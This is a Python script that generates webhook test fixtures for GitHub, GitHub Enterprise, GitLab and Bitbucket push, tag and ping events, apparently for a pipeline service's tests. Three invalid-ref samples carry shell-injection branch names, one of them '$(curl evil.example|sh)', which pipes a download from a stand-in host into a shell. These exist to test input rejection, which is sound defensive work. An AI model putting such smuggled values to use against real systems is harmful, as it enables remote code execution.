#!/usr/bin/env python3
"""Regenerates the webhook samples in events/ for every git host (GitHub, GitHub Enterprise Server,
GitLab, Bitbucket Cloud): each is a Lambda function URL request (payload format 2.0) carrying a
real-shaped payload with the host's headers, authenticated with that host's sample secret from
events/switchyard.env. Run it after editing a payload below: python3 tests/make-webhook-samples.py
"""
import base64, hashlib, hmac, json, pathlib

ROOT = pathlib.Path(__file__).resolve().parent.parent
ENV = dict(l.split("=", 1) for l in (ROOT / "events/switchyard.env").read_text().splitlines()
           if l and not l.startswith("#") and "=" in l)
SECRET = ENV["GITHUB_WEBHOOK_SECRET"].strip()
ENTERPRISE_SECRET = ENV["GITHUB_ENTERPRISE_WEBHOOK_SECRET"].strip()
GITLAB_TOKEN = ENV["GITLAB_WEBHOOK_SECRET"].strip()
BITBUCKET_SECRET = ENV["BITBUCKET_WEBHOOK_SECRET"].strip()
ZERO = "0" * 40
SHA = "7f3c2a9e1b4d5f60718293a4b5c6d7e8f9012345"
REPO = {"id": 118, "name": "payments-service", "full_name": "acme/payments-service",
        "default_branch": "main", "private": True, "owner": {"login": "acme"}}
SENDER = {"login": "octocat", "id": 1}


def hub_signature(secret, body):
    return "sha256=" + hmac.new(secret.encode(), body.encode(), hashlib.sha256).hexdigest()


def request(event, delivery, payload, *, secret=SECRET, base64_body=False, signature=None, enterprise=None):
    body = json.dumps(payload, separators=(",", ":"))
    headers = {
        "content-type": "application/json",
        "user-agent": "GitHub-Hookshot/5f2b1c3",
        "x-github-event": event,
        "x-github-delivery": delivery,
        "x-github-hook-id": "471929641",
        "x-hub-signature-256": signature or hub_signature(secret, body),
    }
    if enterprise:
        headers["x-github-enterprise-host"] = enterprise
        headers["x-github-enterprise-version"] = "3.14.2"
    return function_url(headers, body, delivery, base64_body=base64_body)


def function_url(headers, body, delivery, *, base64_body=False, source_ip="140.82.115.1"):
    return {
        "version": "2.0", "routeKey": "$default", "rawPath": "/", "rawQueryString": "",
        "headers": headers,
        "requestContext": {
            "accountId": "anonymous", "apiId": "abcdefghijklmnop",
            "domainName": "abcdefghijklmnop.lambda-url.eu-west-1.on.aws", "domainPrefix": "abcdefghijklmnop",
            "http": {"method": "POST", "path": "/", "protocol": "HTTP/1.1", "sourceIp": source_ip,
                     "userAgent": headers["user-agent"]},
            "requestId": delivery, "routeKey": "$default", "stage": "$default",
            "time": "23/Nov/2026:09:12:44 +0000", "timeEpoch": 1795424564000,
        },
        "body": base64.b64encode(body.encode()).decode() if base64_body else body,
        "isBase64Encoded": base64_body,
    }


def push(ref, before, after, created, deleted, **extra):
    return {"ref": ref, "before": before, "after": after, "created": created, "deleted": deleted,
            "forced": False, "base_ref": None, "compare": "https://github.com/acme/payments-service/compare",
            "commits": [], "head_commit": None, "repository": REPO, "pusher": {"name": "octocat"},
            "sender": SENDER, **extra}


def write(path, obj):
    path = ROOT / "events" / path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(obj, indent=2) + "\n")


BRANCH = {
    "github-push-branch-created.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d01",
        push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False)),
    "github-push-branch-deleted.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d02",
        push("refs/heads/feature/PAY-142-refunds", SHA, ZERO, False, True), base64_body=True),
    "github-create-branch.json": request("create", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d03",
        {"ref": "bugfix/ledger-rounding", "ref_type": "branch", "master_branch": "main",
         "description": None, "pusher_type": "user", "repository": REPO, "sender": SENDER}),
    "github-delete-branch.json": request("delete", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d04",
        {"ref": "bugfix/ledger-rounding", "ref_type": "branch", "pusher_type": "user",
         "repository": REPO, "sender": SENDER}),
    "github-ping.json": request("ping", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d05",
        {"zen": "Design for failure.", "hook_id": 471929641,
         "hook": {"type": "Repository", "id": 471929641, "active": True, "events": ["push", "create", "delete"],
                  "config": {"content_type": "json", "insecure_ssl": "0",
                             "url": "https://abcdefghijklmnop.lambda-url.eu-west-1.on.aws/"}},
         "repository": REPO, "sender": SENDER}),
    "github-bad-signature.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d06",
        push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False), secret="not-the-secret"),
    "github-push-default-branch.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d07",
        push("refs/heads/main", ZERO, SHA, True, False)),
    "github-push-excluded-branch.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d08",
        push("refs/heads/dependabot/npm_and_yarn/lodash-4.17.21", ZERO, SHA, True, False)),
    "github-push-invalid-ref.json": request("push", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d09",
        push("refs/heads/feature/..;$(curl evil.example|sh)", ZERO, SHA, True, False)),
    "github-issues-event.json": request("issues", "6a1c9e40-c8a1-11f0-8f1e-1f2a3b4c5d10",
        {"action": "opened", "issue": {"number": 7, "title": "Refunds fail"}, "repository": REPO, "sender": SENDER}),
}

TAG_SHA = "c3d9e2a17b5f4e608d1c2b3a4f5e6d7c8b9a0f1e"
TAG = {
    # GitHub sets base_ref on a tag push when the tagged commit is the head of a branch.
    "github-push-tag.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a01",
        push("refs/tags/prod_eu-west-1/payments/2.4.0", ZERO, TAG_SHA, True, False, base_ref="refs/heads/main")),
    "github-push-tag-not-on-default-branch.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a02",
        push("refs/tags/prod_global/payments/2.4.1", ZERO, TAG_SHA, True, False,
             base_ref="refs/heads/feature/PAY-142-refunds")),
    "github-push-tag-invalid.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a03",
        push("refs/tags/prd_eu-west-1/payments/2.4.0", ZERO, TAG_SHA, True, False), base64_body=True),
    "github-create-tag.json": request("create", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a04",
        {"ref": "prod_eu-west-1/payments/2.4.0", "ref_type": "tag", "master_branch": "main",
         "description": None, "pusher_type": "user", "repository": REPO, "sender": SENDER}),
    # An ordinary tag (the `simple-tag` of GitHub's own example payloads): not a release tag.
    "github-push-ordinary-tag.json": request("push", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a06",
        push("refs/tags/simple-tag", ZERO, TAG_SHA, True, False)),
    "github-delete-tag.json": request("delete", "8b3d1f62-c8a1-11f0-9a2b-3c4d5e6f7a05",
        {"ref": "dev_eu-west-1/payments/2.3.9", "ref_type": "tag", "pusher_type": "user",
         "repository": REPO, "sender": SENDER}),
}

# --- GitHub Enterprise Server: GitHub's format, its own secret, and the server's host. ---
GHE = "ghe.acme.com"
GHE_REPO = {**REPO, "html_url": f"https://{GHE}/acme/payments-service",
            "url": f"https://{GHE}/api/v3/repos/acme/payments-service"}


def ghe_push(ref, before, after, created, deleted, **extra):
    return {**push(ref, before, after, created, deleted, **extra), "repository": GHE_REPO,
            "compare": f"https://{GHE}/acme/payments-service/compare"}


def ghe(event, delivery, payload, *, secret=ENTERPRISE_SECRET):
    return request(event, delivery, payload, secret=secret, enterprise=GHE)


# --- GitLab: push and tag push hooks, authenticated by the hook's secret token. ---
GITLAB_PROJECT = {
    "id": 4817, "name": "payments-service", "description": "", "web_url": "https://gitlab.com/acme/payments/payments-service",
    "avatar_url": None, "git_ssh_url": "git@gitlab.com:acme/payments/payments-service.git",
    "git_http_url": "https://gitlab.com/acme/payments/payments-service.git", "namespace": "payments",
    "visibility_level": 0, "path_with_namespace": "acme/payments/payments-service", "default_branch": "main",
    "ci_config_path": "", "homepage": "https://gitlab.com/acme/payments/payments-service",
    "url": "git@gitlab.com:acme/payments/payments-service.git",
    "ssh_url": "git@gitlab.com:acme/payments/payments-service.git",
    "http_url": "https://gitlab.com/acme/payments/payments-service.git",
}


def gitlab_project(host):
    return {k: (v.replace("gitlab.com", host) if isinstance(v, str) else v) for k, v in GITLAB_PROJECT.items()}


def gitlab_push(kind, ref, before, after, project=GITLAB_PROJECT):
    return {
        "object_kind": kind, "event_name": kind, "before": before, "after": after, "ref": ref,
        "ref_protected": False, "checkout_sha": None if after == ZERO else after, "message": None,
        "user_id": 2204, "user_name": "Ana Lopez", "user_username": "alopez", "user_email": "",
        "user_avatar": "https://gitlab.com/uploads/-/system/user/avatar/2204/avatar.png",
        "project_id": project["id"], "project": project, "commits": [], "total_commits_count": 0,
        "push_options": {},
        "repository": {"name": project["name"], "url": project["url"], "description": "",
                       "homepage": project["homepage"], "git_http_url": project["git_http_url"],
                       "git_ssh_url": project["git_ssh_url"], "visibility_level": 0},
    }


def gitlab(event, uuid, payload, *, token=GITLAB_TOKEN, instance="https://gitlab.com"):
    body = json.dumps(payload, separators=(",", ":"))
    headers = {
        "content-type": "application/json",
        "user-agent": "GitLab/18.6.0-ee",
        "x-gitlab-event": event,
        "x-gitlab-instance": instance,
        "x-gitlab-webhook-uuid": "3b5a1c2e-6f1d-4e0a-9d2b-8c7f6e5d4c3b",
        "x-gitlab-event-uuid": uuid,
        "idempotency-key": uuid,
        "x-gitlab-token": token,
    }
    return function_url(headers, body, uuid, source_ip="34.74.90.65")


# --- Bitbucket Cloud: repo:push, HMAC-SHA256 of the body in X-Hub-Signature. ---
BB_REPO = {"type": "repository", "full_name": "acme/payments-service", "name": "payments-service",
           "uuid": "{6d1c0b6e-2f5a-4c1e-9a3b-7e8f9a0b1c2d}", "is_private": True, "scm": "git",
           "links": {"html": {"href": "https://bitbucket.org/acme/payments-service"}},
           "workspace": {"type": "workspace", "slug": "acme", "name": "Acme",
                         "uuid": "{0b1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e}"},
           "project": {"type": "project", "key": "PAY", "name": "Payments"}}
BB_ACTOR = {"type": "user", "display_name": "Ana Lopez", "nickname": "alopez",
            "account_id": "557058:1b2c3d4e-5f6a-7b8c-9d0e-1f2a3b4c5d6e"}


def bb_ref(kind, name, sha):
    return {"type": kind, "name": name,
            "target": {"type": "commit", "hash": sha, "date": "2026-11-23T09:12:40+00:00",
                       "message": "Refunds: first cut\n", "author": {"type": "author", "raw": "Ana Lopez <ana@acme.example>"}},
            "links": {"html": {"href": f"https://bitbucket.org/acme/payments-service/{'branch' if kind == 'branch' else 'commits/tag'}/{name}"}}}


def bb_change(new, old):
    return {"new": new, "old": old, "created": old is None, "closed": new is None, "forced": False,
            "truncated": False, "commits": []}


def bitbucket(event, uuid, payload, *, secret=BITBUCKET_SECRET):
    body = json.dumps(payload, separators=(",", ":"))
    headers = {
        "content-type": "application/json",
        "user-agent": "Bitbucket-Webhooks/2.0",
        "x-event-key": event,
        "x-hook-uuid": "9e8d7c6b-5a4f-4e3d-8c2b-1a0f9e8d7c6b",
        "x-request-uuid": uuid,
        "x-attempt-number": "1",
        "x-hub-signature": hub_signature(secret, body),
    }
    return function_url(headers, body, uuid, source_ip="104.192.136.5")


def bb_push(*changes):
    return {"push": {"changes": list(changes)}, "actor": BB_ACTOR, "repository": BB_REPO}


OLD = "5e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f"
BRANCH.update({
    "github-enterprise-push-branch-created.json": ghe("push", "a41f7c20-c8a1-11f0-8e11-5a6b7c8d9e01",
        ghe_push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False)),
    "github-enterprise-push-branch-deleted.json": ghe("push", "a41f7c20-c8a1-11f0-8e11-5a6b7c8d9e02",
        ghe_push("refs/heads/feature/PAY-142-refunds", SHA, ZERO, False, True)),
    "github-enterprise-ping.json": ghe("ping", "a41f7c20-c8a1-11f0-8e11-5a6b7c8d9e03",
        {"zen": "Speak like a human.", "hook_id": 12, "hook": {"type": "Repository", "id": 12, "active": True,
         "events": ["push"], "config": {"content_type": "json", "insecure_ssl": "0",
         "url": "https://abcdefghijklmnop.lambda-url.eu-west-1.on.aws/"}}, "repository": GHE_REPO, "sender": SENDER}),
    # Signed with github.com's secret: the enterprise server's secret is another one.
    "github-enterprise-bad-signature.json": ghe("push", "a41f7c20-c8a1-11f0-8e11-5a6b7c8d9e04",
        ghe_push("refs/heads/feature/PAY-142-refunds", ZERO, SHA, True, False), secret=SECRET),
    "gitlab-push-branch-created.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a01",
        gitlab_push("push", "refs/heads/feature/PAY-142-refunds", ZERO, SHA)),
    "gitlab-push-branch-deleted.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a02",
        gitlab_push("push", "refs/heads/feature/PAY-142-refunds", SHA, ZERO)),
    "gitlab-self-managed-branch-created.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a03",
        gitlab_push("push", "refs/heads/feature/PAY-142-refunds", ZERO, SHA, gitlab_project("gitlab.acme.com")),
        instance="https://gitlab.acme.com"),
    "gitlab-bad-token.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a04",
        gitlab_push("push", "refs/heads/feature/PAY-142-refunds", ZERO, SHA), token="not-the-token"),
    # GitLab's "Test > Push events" button: a push of the default branch's latest commit.
    "gitlab-test-push.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a05",
        gitlab_push("push", "refs/heads/main", OLD, SHA)),
    "gitlab-merge-request-event.json": gitlab("Merge Request Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a06",
        {"object_kind": "merge_request", "event_type": "merge_request", "project": GITLAB_PROJECT,
         "object_attributes": {"iid": 7, "title": "Refunds", "action": "open", "state": "opened",
                               "source_branch": "feature/PAY-142-refunds", "target_branch": "main"}}),
    "gitlab-push-invalid-ref.json": gitlab("Push Hook", "2f0c8e1a-6b4d-4c7e-9a1f-3d5b7c9e1a07",
        gitlab_push("push", "refs/heads/feature/..;$(curl evil.example|sh)", ZERO, SHA)),
    "bitbucket-push-branch-created.json": bitbucket("repo:push", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e01",
        bb_push(bb_change(bb_ref("branch", "feature/PAY-142-refunds", SHA), None))),
    "bitbucket-push-branch-deleted.json": bitbucket("repo:push", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e02",
        bb_push(bb_change(None, bb_ref("branch", "feature/PAY-142-refunds", SHA)))),
    "bitbucket-bad-signature.json": bitbucket("repo:push", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e03",
        bb_push(bb_change(bb_ref("branch", "feature/PAY-142-refunds", SHA), None)), secret=SECRET),
    "bitbucket-ping.json": bitbucket("diagnostics:ping", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e04",
        {"test": True}),
    "bitbucket-pullrequest-event.json": bitbucket("pullrequest:created", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e05",
        {"pullrequest": {"id": 7, "title": "Refunds", "state": "OPEN",
                         "source": {"branch": {"name": "feature/PAY-142-refunds"}},
                         "destination": {"branch": {"name": "main"}}},
         "actor": BB_ACTOR, "repository": BB_REPO}),
    # One push, several changes (git push --all): one decision per change.
    "bitbucket-push-several-changes.json": bitbucket("repo:push", "7c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e06",
        bb_push(bb_change(bb_ref("branch", "feature/PAY-150-chargebacks", SHA), None),
                bb_change(None, bb_ref("branch", "bugfix/ledger-rounding", OLD)),
                bb_change(bb_ref("branch", "main", SHA), bb_ref("branch", "main", OLD)),
                bb_change(bb_ref("branch", "feature/..;$(id)", SHA), None))),
})

TAG.update({
    "github-enterprise-push-tag.json": ghe("push", "b52e8d31-c8a1-11f0-8e22-6b7c8d9e0f01",
        ghe_push("refs/tags/prod_eu-west-1/payments/2.4.0", ZERO, TAG_SHA, True, False, base_ref="refs/heads/main")),
    "gitlab-tag-push.json": gitlab("Tag Push Hook", "3a1d9f2b-7c5e-4d8f-8b2a-4e6c8d0f2b01",
        gitlab_push("tag_push", "refs/tags/dev_eu-west-1/payments/2.4.0", ZERO, TAG_SHA)),
    # prod only releases commits of the default branch, which a GitLab tag push cannot confirm.
    "gitlab-tag-push-prod-unconfirmed.json": gitlab("Tag Push Hook", "3a1d9f2b-7c5e-4d8f-8b2a-4e6c8d0f2b02",
        gitlab_push("tag_push", "refs/tags/prod_eu-west-1/payments/2.4.0", ZERO, TAG_SHA)),
    "gitlab-tag-deleted.json": gitlab("Tag Push Hook", "3a1d9f2b-7c5e-4d8f-8b2a-4e6c8d0f2b03",
        gitlab_push("tag_push", "refs/tags/dev_eu-west-1/payments/2.3.9", TAG_SHA, ZERO)),
    "bitbucket-push-tag.json": bitbucket("repo:push", "8d2e3f4a-5b6c-4d7e-9f8a-0b1c2d3e4f01",
        bb_push(bb_change(bb_ref("tag", "dev_eu-west-1/payments/2.4.0", TAG_SHA), None))),
})

if __name__ == "__main__":
    for name, obj in BRANCH.items():
        write(f"branch-pipelines/{name}", obj)
    print(f"wrote {len(BRANCH)} branch-pipelines webhook samples")
    for name, obj in TAG.items():
        write(f"tag-release/{name}", obj)
    print(f"wrote {len(TAG)} tag-release webhook samples")
